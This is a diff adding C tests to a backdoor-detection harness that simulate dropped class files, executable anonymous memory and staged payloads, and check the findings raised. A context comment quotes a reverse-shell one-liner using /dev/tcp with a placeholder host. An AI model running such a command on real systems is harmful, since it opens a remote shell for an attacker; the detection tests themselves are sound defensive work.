@@ -988,6 +988,72 @@ Test(backdoor, interpreter_loading_code_it_dropped)
 	harness_free(h);
 }
 
+/* Any runtime reading back compiled code it dropped in /tmp (the JVM is no
+ * script runner): a class or a jar is high; its own classes in the
+ * workdir, a build cache under HOME, and a class file it never reads are
+ * not. */
+Test(backdoor, runtime_loading_compiled_code_it_dropped)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 100, 0.1, "/usr/bin/java", "/dev/null", "pipe", NULL);
+	open_file(h, 100, 0.2, "/tmp/plug123/Payload.class", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
+	open_file(h, 100, 0.3, "/home/auditor/app/Main.class", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
+	open_file(h, 100, 0.4, "/home/auditor/.m2/repository/a/a.jar", DA_ACC_WRITE | DA_ACC_CREATE, 0);
+	open_file(h, 100, 0.5, "/tmp/unused.class", DA_ACC_WRITE | DA_ACC_CREATE, 0);
+	open_file(h, 100, 0.6, "/home/auditor/app/Main.class", DA_ACC_READ, 0);
+	open_file(h, 100, 0.6, "/home/auditor/.m2/repository/a/a.jar", DA_ACC_READ, 0);
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 0);
+	open_file(h, 100, 0.7, "/tmp/plug123/Payload.class", DA_ACC_READ, 0);
+	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_HIGH);
+	cr_assert(strstr(f->message, "java loads compiled code") && strstr(f->message, "/tmp/plug123/Payload.class"),
+		  "%s", f->message);
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 1);
+	harness_free(h);
+}
+
+/* Anonymous memory made executable: judged only when the tracer found its
+ * bytes in what was received (arg[2] 1) or in a temp file read back
+ * (arg[2] 2, path2); a JIT's mprotect carries neither. */
+Test(backdoor, anonymous_code_from_a_socket_or_a_dropped_file)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 100, 0.1, "/usr/bin/node", "/dev/null", "pipe", NULL);
+	for (int i = 0; i < 20; i++) {
+		struct da_event ev = ev_make(DA_EV_FILE_MMAP_EXEC, 100, 0.2 + i * 0.01);
+		ev.syscall = "mprotect";
+		ev.detail = "mprotect";
+		ev.flags = 5;
+		ev.text = "mprotect(0x7f0000000000, 4096, PROT_READ|PROT_EXEC) = ?";
+		harness_publish(h, &ev);
+	}
+	cr_assert_eq(harness_count(h, NULL), 0);
+	exec_prog(h, 200, 0.5, "/home/auditor/app/stager", "/dev/null", "pipe", NULL);
+	struct da_event ev = ev_make(DA_EV_FILE_MMAP_EXEC, 200, 0.6);
+	ev.syscall = "mprotect";
+	ev.detail = "mprotect";
+	ev.arg[2] = 1;
+	ev.text = "mprotect(0x7f0000000000, 4096, PROT_READ|PROT_EXEC) = ?";
+	harness_publish(h, &ev);
+	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
+	cr_assert(strstr(f->message, "stager runs code it received from a network connection"), "%s", f->message);
+	harness_free(h);
+
+	h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 200, 0.5, "/home/auditor/app/stager", "/dev/null", "pipe", NULL);
+	ev.arg[2] = 2;
+	ev.path2 = "/tmp/.cache.bin";
+	harness_publish(h, &ev);
+	f = harness_get(h, "backdoor.dropped_payload");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
+	cr_assert(strstr(f->message, "runs code read back from /tmp/.cache.bin, a file it wrote"), "%s", f->message);
+	harness_free(h);
+}
+
 /* `bash -i >& /dev/tcp/H/P 0>&1` with nobody listening: the shell's own
  * connect is the attempt, even though no exec follows. */
 Test(backdoor, a_shell_connecting_itself_is_a_reverse_shell_attempt)
